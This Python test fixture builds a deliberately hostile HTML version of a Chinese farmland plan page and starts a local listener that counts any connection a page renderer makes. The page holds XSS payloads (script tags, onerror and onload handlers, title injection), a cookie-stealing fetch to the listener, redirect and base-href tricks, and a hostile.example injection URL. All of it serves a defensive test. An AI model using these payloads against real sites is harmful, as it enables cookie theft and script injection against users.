"""A page that tries everything that a page can try, and a listener that counts who falls for it."""

import socket
import threading

from tests.commands import page as plan_page

FARMS = tuple(
    f"{place}要在二〇二七年之前完成{work}，由农业部门会同{place}的村民委员会逐年检查并公布结果。"
    for place, work in (("东乡", "土地平整"), ("西乡", "灌溉渠道"), ("南乡", "机耕道路"))
)
HOSTILE = "https://hostile.example/%3Cscript%3Etop.owned=1%3C/script%3E?\"onload='top.owned=1'"


class Trap:
    """A listener that nobody has a reason to connect to; it counts who does."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = int(self._socket.getsockname()[1])
        self.caught = 0
        threading.Thread(target=self._wait, daemon=True).start()

    def _wait(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            self.caught += 1
            connection.close()

    def close(self) -> None:
        self._socket.close()


def hostile(port: int) -> bytes:
    """A plan's page that tries to run, to read, to ask and to lead away."""
    there = f"http://127.0.0.1:{port}"
    script = f"fetch('{there}/a?'+document.cookie);top.owned=1;document.title='owned';alert(1)"
    head = (
        f"<meta charset=utf-8><title>&lt;script&gt;top.owned=1&lt;/script&gt;"
        f"\"'&gt;&lt;img src=x onerror=top.owned=1&gt;湿地方案</title>"
        f"<meta http-equiv=refresh content='0;url={there}/refresh'><base href='{there}/'>"
        f"<link rel=preconnect href='{there}'><link rel=dns-prefetch href='{there}'>"
        f"<link rel=prefetch href='{there}/pre'><link rel=stylesheet href='{there}/s.css'>"
        f"<style>@import url('{there}/i.css');body{{background:url('{there}/b.png')}}</style>"
        f"<script>{script}</script><script src='{there}/x.js'></script>"
    )
    body = (
        f"<img src='{there}/p.png' onerror=\"{script}\"><iframe src='{there}/f'></iframe>"
        f"<form action='{there}/post' id=f></form><svg onload=\"{script}\"></svg>"
        f"<video src='{there}/v' poster='{there}/po'></video><object data='{there}/o'></object>"
        f"<p id=read>归档页正文</p>"
    )
    return (
        plan_page(FARMS, "农田整治方案")
        .replace(b"<head>", b"<head>" + head.encode())
        .replace(b"</body>", body.encode() + b"</body>")
    )
